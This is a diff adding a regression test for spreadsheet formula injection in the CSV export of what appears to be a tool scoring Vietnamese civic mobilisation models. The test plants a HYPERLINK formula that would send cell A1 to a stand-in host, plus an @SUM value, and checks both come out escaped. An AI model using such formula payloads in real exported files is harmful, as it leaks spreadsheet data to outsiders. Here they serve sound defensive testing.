@@ -251,3 +251,26 @@ describe('on a terminal', () => {
     expect(r.stdout).toMatch(/^ {3}1 {2}DT-2023-CA-01 {3}Dân vận khéo trong xây dựng mô hình "Camera an… {3}Công an thị xã Duy Tiên/m);
   });
 });
+
+describe('spreadsheet formula injection (issue 9, defect 3)', () => {
+  it('a name or unit that Excel would run as a formula is written as text, and a ; shifts no column', async () => {
+    const dir = workspaceFrom(EXAMPLE);
+    const file = path.join(dir, 'models/2023/CA/camera-an-ninh.yaml');
+    const text = fs.readFileSync(file, 'utf8');
+    fs.writeFileSync(
+      file,
+      text
+        .replace(/^name: .*$/m, `name: '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'`)
+        .replace(/unit: \{ name: [^,]*,/, `unit: { name: "@SUM(1+1); -2+3",`),
+    );
+    const r = await dvk(['score', '--format', 'csv'], { cwd: dir });
+    expect(r.exitCode, r.stderr).toBe(0);
+    const rows = parseCsv(r.stdout.replace(/^\uFEFF/, ''), ';');
+    const header = rows[0]!;
+    const row = rows.find((x) => x[1] === 'DT-2023-CA-01')!;
+    expect(row).toHaveLength(header.length);
+    expect(row[header.indexOf('Tên mô hình')]).toBe(`'=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")`);
+    expect(row[header.indexOf('Đơn vị')]).toBe("'@SUM(1+1); -2+3");
+    for (const r2 of rows) for (const cell of r2) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
